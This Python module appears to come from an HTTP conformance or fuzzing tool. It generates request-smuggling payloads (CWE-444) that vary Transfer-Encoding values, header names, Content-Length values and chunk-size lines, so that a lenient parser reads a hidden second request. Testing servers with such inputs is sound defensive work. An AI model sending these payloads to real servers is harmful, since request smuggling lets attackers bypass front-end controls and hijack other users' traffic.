"""Requests that two parsers read in two ways (RFC 9112 section 6.3, CWE-444). Pure and deterministic.

Each has one reading in which all of it is a single request, whose body holds what looks like a second one; and a
framing field or chunk line, bent in some way, that lets a careless reader end the first request early. A second answer
means that somebody was careless.
"""

import itertools
from collections.abc import Iterator

from msgspec import Struct

_BYTES = ("\t", "\x0b", "\x0c", "\r", "\x00", "\x01", "\x1f", "\x7f", "\x85", "\xa0", "\xad", "\xff", " ", "  ")
_VALUES = (
    "chunked", "Chunked", "CHUNKED", "chunKed", "xchunked", "chunkedx", "chunked,", ",chunked", "chunked, ", " chunked",
    "chunked, identity", "identity, chunked", "identity", "chunked, chunked", "gzip, chunked", "chunked, gzip",
    '"chunked"', "'chunked'", "chunked;q=1", "chunked;", ";chunked", "chunked foo", "foo chunked", "chunked/1.0",
    "deflate,chunked", "x,chunked", "chunk", "hunked", "chunked=1", "=chunked", "(chunked)", "chunked#", "chunked\\",
    "ch\u00fcnked", "chunKed", "c h u n k e d", "chunked:", ":chunked", "", "cow", "trailers, chunked",
)  # fmt: skip
_NAMES = (
    "Transfer-Encoding", "transfer-encoding", "TRANSFER-ENCODING", "Transfer-Encoding ", "Transfer-Encoding\t",
    " Transfer-Encoding", "\tTransfer-Encoding", "Transfer_Encoding", "Transfer Encoding", "Transfer-Encoding\x00",
    "Transfer-Encoding\x0b", "X-A: b\rTransfer-Encoding", "X-A: b\nTransfer-Encoding", "X-A: b\r\n Transfer-Encoding",
    "X-A: b\x00Transfer-Encoding", "Transfer-Encoding\r\n", "\x00Transfer-Encoding", "Transfer-Encodin\u011f",
    "Transfer-Encoding:X-A", '"Transfer-Encoding"',
)  # fmt: skip
_LENGTHS = (
    "0", "+0", "-0", "00", "0x0", "0,0", "0, {n}", "{n}, 0", "0 {n}", "0;{n}", " 0", "0 ", "\t0", "0\t", "\x0b0",
    "0\x0b", "0\x00", "\x000", "0.0", "0e0", "1e0", "'0'", '"0"', "0_0", "", "-1", "-{n}", "NaN",
    "18446744073709551616", "4294967296", "18446744073709551617", "0\r", "\u0660", "0b0", "0o0", "0a", "zero",
)  # fmt: skip
_LENGTH_NAMES = (
    "Content-Length", "content-length", "CONTENT-LENGTH", "Content-Length ", "Content-Length\t", " Content-Length",
    "Content_Length", "Content Length", "X-A: b\rContent-Length", "X-A: b\nContent-Length", "Content-Length\x00",
    "X-A: b\r\n Content-Length",
)  # fmt: skip
_SIZES = (
    "0x{n:x}", "+{n:x}", "-{n:x}", " {n:x}", "{n:x} ", "{n:x}\t", "{n:x};", "{n:x};a=b", '{n:x};a="\n"', "{n:x};\n",
    "{n:x};a\rb", "{n:x}\x00", "{n:x}\x0b", "1{n:016x}", "f{n:016x}", "{n:x}h", "{n:x}.0", "{n:x}_0", "{n:x},0",
    "00000000{n:x}", "{n:x}\n", "{n:x}\r", "\n{n:x}", "\r{n:x}", "'{n:x}'", "0{n:x} 0", "0 {n:x}", "-0", "+0", "0x0",
    "0_0", "0;\n", "0\n", "0\r", "", " ", "\t", "g", "0 ;a", "{n:x}\xa0",
)  # fmt: skip


class Mutation(Struct, frozen=True):
    """`name` says what is bent; `data` is what goes on the wire after the request line and Host."""

    name: str
    data: bytes


def mutations(second: bytes) -> list[Mutation]:
    """All of them, at least a thousand; `second` is the request that hides inside."""
    found = itertools.chain(
        _bent_codings(second), _bent_names(second), _two_codings(second), _bent_lengths(second), _bent_chunks(second)
    )
    distinct = {mutation.data: mutation for mutation in found}
    return list(distinct.values())


def _whole(headers: str, body: bytes) -> bytes:
    return headers.encode("latin-1", "replace") + b"\r\n" + body


def _by_length(coding: str, second: bytes, *, first: bool) -> bytes:
    """Content-Length covers everything; the bent coding would end the request at its empty chunk."""
    body = b"0\r\n\r\n" + second
    length = f"Content-Length: {len(body)}\r\n"
    return _whole(length + coding if first else coding + length, body)


def _bent_codings(second: bytes) -> Iterator[Mutation]:
    for value in _VALUES:
        for separator in (": ", ":", ":\t", " : ", ":\x0b", ":\r\n ", ":\n "):
            for first in (True, False):
                coding = f"Transfer-Encoding{separator}{value}\r\n"
                yield Mutation(f"a coding of {value!r}", _by_length(coding, second, first=first))


def _bent_names(second: bytes) -> Iterator[Mutation]:
    for name, value in itertools.product(_NAMES, ("chunked", "chunked, identity", "identity, chunked")):
        for first in (True, False):
            yield Mutation(f"a coding named {name!r}", _by_length(f"{name}: {value}\r\n", second, first=first))
    for byte in _BYTES:
        for coding in (
            f"Transfer-Encoding:{byte}chunked",
            f"Transfer-Encoding: chunked{byte}",
            f"Transfer-Encoding{byte}: chunked",
            f"{byte}Transfer-Encoding: chunked",
            f"Transfer{byte}Encoding: chunked",
            f"X-A: b{byte}Transfer-Encoding: chunked",
        ):
            for first in (True, False):
                yield Mutation(f"a coding with {byte!r}", _by_length(coding + "\r\n", second, first=first))


def _two_codings(second: bytes) -> Iterator[Mutation]:
    some = ("chunked", "identity", "xchunked", "gzip", "", "chunked, identity", "CHUNKED", "cow")
    for one, two in itertools.product(some, some):
        coding = f"Transfer-Encoding: {one}\r\nTransfer-Encoding: {two}\r\n"
        yield Mutation(f"codings {one!r} and {two!r}", _by_length(coding, second, first=True))


def _bent_lengths(second: bytes) -> Iterator[Mutation]:
    """The chunked coding, or another Content-Length, covers everything; the bent length would end the request at 0."""
    chunked = f"{len(second):x}\r\n".encode() + second + b"\r\n0\r\n\r\n"
    for name, value in itertools.product(_LENGTH_NAMES, _LENGTHS):
        bent = f"{name}: {value.replace('{n}', str(len(second)))}\r\n"
        yield Mutation(
            f"a length of {bent.strip()!r} with chunks", _whole(f"Transfer-Encoding: chunked\r\n{bent}", chunked)
        )
        if name == "Content-Length":
            plain = f"Content-Length: {len(second)}\r\n"
            yield Mutation(f"two lengths, one {value!r}", _whole(bent + plain, second))
            yield Mutation(f"two lengths, one {value!r}", _whole(plain + bent, second))


def _bent_chunks(second: bytes) -> Iterator[Mutation]:
    """A chunk line that has no reading at all, or a larger one; read carelessly it ends the request early."""
    for size in _SIZES:
        line = size.format(n=0).encode("latin-1", "replace")
        for end in (b"\r\n", b"\n", b"\r", b"\r\n\r\n"):
            if (line, end) == (b"0", b"\r\n"):
                continue
            body = b"1\r\nx\r\n" + line + end + b"\r\n" + second
            if not _is_plain(line, end):
                yield Mutation(f"a chunk size of {size!r}", _whole("Transfer-Encoding: chunked\r\n", body))


def _is_plain(line: bytes, end: bytes) -> bool:
    """Whether RFC 9112 section 7.1 takes this as the last chunk: then what follows is a request of its own by right."""
    first, newline, rest = (line + end).partition(b"\r\n")
    size, _, extension = first.partition(b";")
    number = size.rstrip(b" \t")
    plain = bool(number) and set(number) <= set(b"0") and b"\r" not in extension and b"\n" not in extension
    return plain and bool(newline) and rest in (b"", b"\r\n")
